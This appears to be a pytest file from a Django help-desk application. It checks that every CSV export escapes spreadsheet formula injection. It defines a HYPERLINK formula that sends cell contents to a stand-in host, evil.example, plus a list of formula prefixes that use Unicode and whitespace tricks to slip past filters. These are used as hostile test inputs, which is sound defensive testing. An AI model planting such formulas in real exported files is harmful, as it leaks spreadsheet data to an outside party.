"""Tables that are taken away into a spreadsheet: nothing in them is a formula, whoever wrote it and wherever it stands."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client

import pelekan
from pelekan.demo.world import World
from pelekan.knowledge.files import Row, read_csv
from pelekan.knowledge.models import Section
from pelekan.knowledge.trail import days, walking
from pelekan.lib.cells import harmless, told
from pelekan.lib.time import now
from tests.web.help.books import article
from tests.web.portal.desk import ticket_of
from tests.web.test_rights import ALL

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
BEGINNINGS = ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u200e=1", "\u202b+1", "\ufeff@x", "\u00a0=1", "＝1", "|x", "%0A=1", "'=1", "''=1")  # fmt: skip
BEGINS = re.compile(r"[\s\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]*[=+\-@|%＝＋－＠]")
SAFE_NUMBER = re.compile(r"-?\d+(\.\d+)?$")


@pytest.mark.parametrize("cell", [*BEGINNINGS, EVIL])
def test_ex_01_a_text_stays_a_text_and_comes_back_as_it_was(cell: str) -> None:
    assert harmless(cell) == f"'{cell}" and told(harmless(cell)) == cell
    for plain in ("سلام", "a=b", "'tis", "", "5"):
        assert harmless(plain) == plain and told(plain) == plain
    assert harmless(-5) == -5


def test_ex_01_there_is_one_way_to_write_a_table() -> None:
    root = Path(pelekan.__file__).parent
    writes = re.compile(r"csv\.(writer|DictWriter)|openpyxl|xlsxwriter|text/tab-separated")
    found = {str(path.relative_to(root)) for path in root.rglob("*.py") if writes.search(path.read_text())}
    assert found == {"lib/cells.py"}


@pytest.mark.django_db
def test_ex_01_every_table_of_insights_and_knowledge(world: World) -> None:
    """Titles, sections, names, organizations, words that were looked for, subjects."""
    mina = world.customers["mina"]
    mina.name = EVIL
    mina.save()
    if mina.organization is not None:
        mina.organization.name, mina.organization.plan = EVIL, "@plan"
        mina.organization.save()
    shelf = Section.objects.create(slug="evil", names={"en": EVIL, "fa": EVIL})
    page = article(EVIL, "<p>=1+1</p>", section=shelf, summary="@SUM(1)")
    ticket = ticket_of(world, "mina", "text", subject=EVIL)
    at = now() - timedelta(days=2)
    visit = walking.visit("a" * 32, place="help", language="en", customer=mina, now=at)
    assert visit is not None
    question = walking.asked(EVIL, place="help", found=0, language="en", visit=visit, now=at)
    walking.opened(page, place="help", visit=visit, question=question, now=at)
    walking.registered(visit, ticket)
    days.catch_up()
    nika = Client()
    nika.force_login(world.agents["arash"].user, backend="pelekan.people.backends.Backend")
    files = 0
    for route in ALL:
        if not re.match(r"desk/(insights|knowledge|community)", route):
            continue
        path = "/" + re.sub(
            r"<(?:(\w+):)?(\w+)>", lambda one: str(page.pk) if one[1] == "int" else "csv", route
        )
        answer = nika.get(path, {"csv": "1", "period": "year"})
        if not answer.get("Content-Type", "").startswith("text/csv"):
            continue
        files += 1
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[attr-defined]
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
            for cell in row:
                assert not BEGINS.match(cell) or SAFE_NUMBER.match(cell), (path, cell)
        assert answer["X-Content-Type-Options"] == "nosniff" and answer["Content-Disposition"].startswith(
            "attachment"
        )
    assert files >= 7
    body = b"".join(nika.get("/desk/knowledge/files/csv/").streaming_content)  # type: ignore[attr-defined]
    (back,) = [one for one in read_csv(io.BytesIO(body)) if isinstance(one, Row)]
    assert (back.title, back.summary) == (EVIL, "@SUM(1)"), "and what is read back is what was written"
